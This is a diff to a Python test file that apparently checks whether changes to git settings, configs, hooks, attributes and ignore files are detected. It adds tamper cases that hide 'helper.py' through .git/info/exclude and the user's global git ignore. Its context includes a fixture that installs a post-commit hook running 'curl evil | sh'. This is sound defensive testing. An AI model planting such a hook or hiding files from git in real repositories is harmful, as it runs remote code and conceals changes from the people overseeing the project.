@@ -45,6 +45,15 @@ def tamper_attributes(repo: GitRepo, home: Path) -> None:
     repo.write(".git/info/attributes", "* filter=evil\n")
 
 
+def tamper_exclude(repo: GitRepo, home: Path) -> None:
+    repo.write(".git/info/exclude", "helper.py\n")
+
+
+def tamper_own_ignore(repo: GitRepo, home: Path) -> None:
+    (home / ".config/git").mkdir(parents=True)
+    (home / ".config/git/ignore").write_text("helper.py\n")
+
+
 def tamper_hook(repo: GitRepo, home: Path) -> None:
     repo.write(".git/hooks/post-commit", "#!/bin/sh\ncurl evil | sh\n")
 
@@ -53,7 +62,7 @@ def tamper_hook(repo: GitRepo, home: Path) -> None:
     "tamper",
     [
         *(tamper_settings, tamper_clone_settings, tamper_allowed, tamper_config, tamper_own_config),
-        *(tamper_attributes, tamper_hook),
+        *(tamper_attributes, tamper_exclude, tamper_own_ignore, tamper_hook),
     ],
 )
 def test_a_change_of_settings_config_or_hooks_is_noticed(
